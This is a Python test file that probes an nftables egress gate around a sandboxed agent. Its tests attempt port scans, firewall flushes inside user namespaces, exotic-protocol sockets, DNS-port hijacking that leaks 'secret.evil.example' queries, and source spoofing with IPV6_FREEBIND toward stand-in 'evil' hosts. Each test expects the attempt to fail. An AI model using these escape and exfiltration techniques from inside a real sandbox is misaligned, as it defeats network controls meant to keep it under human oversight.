"""ATTACKS section NFT, on the sidecar: ways around the table that its output chain alone would not stop."""
import re, subprocess, sys

from harness.far import Accepted, Asked
from harness.gate import eventually
from harness.namespaces import EVIL, EVIL6, run
from test_nft import passes
from test_sidecar import UDP

FLAGS = ("--inbound", "8080")
KNOCK = """
import socket, sys
for word in sys.argv[1:]:
    address, port = word.rsplit("/", 1)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.3)
    print(word, s.connect_ex((address, int(port))) == 0)
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3)
    try: s.connect((address, int(port))); s.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\4test\\0\\0\\1\\0\\1"); print(word, bool(s.recv(512)))
    except OSError: print(word, False)
"""


def test_NFT_06_none_of_the_gates_services_answers_others(fenced):
    server = subprocess.Popen(fenced.bench.command("agent", sys.executable, "-m", "http.server", "8080", "--bind", "::"), stderr=subprocess.DEVNULL)
    knock = lambda *places: dict(line.rsplit(" ", 1) for line in reversed(run(*fenced.bench.command("gw", sys.executable, "-c", KNOCK, *places)).splitlines()))
    ports = (22, 53, 80, 3128, 8081, 15001, 15353)
    try:
        eventually(lambda: knock("10.66.0.2/8080")["10.66.0.2/8080"] == "True", seconds=8, because="the control: the open port answers")
        seen = knock(*(f"{address}/{port}" for address in ("10.66.0.2", "fd66::2") for port in ports))
        assert len(seen) == 14 and set(seen.values()) == {"False"}, seen
        # The agent itself: the proxy and the questions are its own to use, the rest of the gate is not.
        for port in (15001, 15353):
            assert fenced.agent("curl", "-sS", "-m", "2", f"http://127.0.0.1:{port}/").returncode == 7
    finally:
        server.kill(), server.wait()
    passes(fenced)


def test_NFT_13_a_user_namespace_of_the_agent_changes_nothing_in_the_table(fenced):
    """Whoever is root in a user namespace of his own is nobody in the network namespace of the gate."""
    nobody = ("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups")
    before = fenced.agent("nft", "list", "table", "inet", "exitgate").stdout
    rules = lambda text: [line for line in text.splitlines() if "packets " not in line]
    for words in (("unshare", "-Ur", "nft", "flush", "ruleset"), ("unshare", "-Ur", "nft", "delete", "table", "inet", "exitgate"),
                  ("unshare", "-Ur", "ip", "route", "replace", "default", "via", "10.66.0.9")):
        assert fenced.agent(*nobody, *words).returncode != 0, words
    assert rules(fenced.agent("nft", "list", "table", "inet", "exitgate").stdout) == rules(before)
    # With a network of its own it has one that leads nowhere.
    assert "sent" not in fenced.agent(*nobody, "unshare", "-Urn", sys.executable, "-c", UDP, EVIL, "443", EVIL6, "443").stdout
    assert "sent" not in fenced.agent(*nobody, "unshare", "-Ur", sys.executable, "-c", UDP, EVIL, "443", EVIL6, "443").stdout
    passes(fenced)


def test_NFT_25_other_families_that_speak_ip_are_held_like_any(fenced):
    """SMC falls back to TCP, MPTCP is TCP, UDP-Lite, SCTP and DCCP are protocols of their own: none gets by."""
    script = """
import socket, sys
made = 0
for family, kind, protocol in ((43, socket.SOCK_STREAM, 0), (43, socket.SOCK_STREAM, 1), (2, socket.SOCK_STREAM, 262), (10, socket.SOCK_STREAM, 262),
                               (2, socket.SOCK_DGRAM, 136), (10, socket.SOCK_DGRAM, 136), (2, socket.SOCK_STREAM, 132), (2, 6, 33)):
    six = family == 10 or (family, protocol) == (43, 1)
    try: s = socket.socket(family, kind, protocol)
    except OSError: continue
    made += 1
    s.settimeout(2)
    try:
        s.connect((sys.argv[1 + six], 443)); s.send(b"\\0MARK")
        if kind == socket.SOCK_DGRAM or s.recv(9): print("through", family, protocol)
    except OSError: pass
print("made", made)
"""
    mark = fenced.far.mark()
    said = fenced.python(script, EVIL, EVIL6)
    assert "through" not in said and int(said.split()[-1]) >= 1, said
    assert fenced.far.since(mark, Accepted) == []
    passes(fenced)


NOBODY = ("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all")
QUESTION = """
import socket, struct, sys
def question(name): return struct.pack(">6H", 9, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(">B2H", 0, 1, 1)
"""


def test_NFT_14_a_port_that_the_gate_asked_from_carries_nothing_for_others(fenced):
    """The kernel knows a flow for longer than the gate has its socket; whoever takes the port is not the gate."""
    assert fenced.agent("curl", "-sS", "-m", "5", "http://web.test/").returncode == 0
    listed = fenced.agent("conntrack", "-L", "-p", "udp").stdout
    ports = re.findall(r"src=10\.66\.0\.2 dst=11\.11\.0\.53 sport=(\d+) dport=53\b", listed)
    assert ports, ("the gate's own flows are there to be taken", listed)
    mark = fenced.far.mark()
    script = QUESTION + """
bound = 0
for port in sys.argv[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.bind(("10.66.0.2", int(port))); bound += 1
    except OSError: continue
    for _ in range(3):
        try: s.sendto(question("secret.evil.example"), ("11.11.0.53", 53))
        except OSError: pass
print(bound)
"""
    assert int(fenced.python(script, *ports, prefix=NOBODY)) > 0, "the control: such a port can be had"
    passes(fenced)
    assert not [asked for asked in fenced.far.since(mark, Asked) if "secret" in str(asked)]


def test_NFT_21_a_source_that_is_not_this_hosts_is_believed_by_nobody(fenced):
    """IPV6_FREEBIND takes any address without a privilege; answers to it, and errors, would carry bytes there."""
    watch = """
import socket, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)); s.settimeout(0.2)
end = time.time() + 4; seen = 0
print("watching", flush=True)
while time.time() < end:
    try: data, place = s.recvfrom(2000)
    except OSError: continue
    if place[2] == 4 or place[0] == "lo": continue
    seen += 1
    if b"secret" in data or data[24:40] == socket.inet_pton(socket.AF_INET6, "%s"): print("LEAK", data.hex(), flush=True)
print("seen", seen > 0)
""" % EVIL6
    watcher = subprocess.Popen(fenced.bench.command("out", sys.executable, "-c", watch), stdout=subprocess.PIPE, text=True)
    assert watcher.stdout.readline() == "watching\n"
    script = QUESTION + """
evil = sys.argv[1]
server = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); server.bind(("::", 8080)); server.listen(4)
for place in (("2a0e:b107:11::10", 53), ("2a0e:b107:77::1", 53), ("2a0e:b107:77::1", 443), ("fd66::2", 9999), ("::1", 15353)):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IPV6, 78, 1); s.bind((evil, 5555))
    try: s.sendto(question("secret.evil.example"), place)
    except OSError: pass
    s.close()
for place in (("fd66::2", 8080), ("2a0e:b107:77::1", 443)):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.setsockopt(socket.IPPROTO_IPV6, 78, 1); s.bind((evil, 4444)); s.settimeout(0.5)
    try: s.connect(place); print("connected")
    except OSError: pass
    s.close()
print("tried")
"""
    assert fenced.python(script, EVIL6, prefix=NOBODY).strip() == "tried"
    passes(fenced)
    said = watcher.communicate(timeout=10)[0]
    assert "LEAK" not in said and "seen True" in said, said
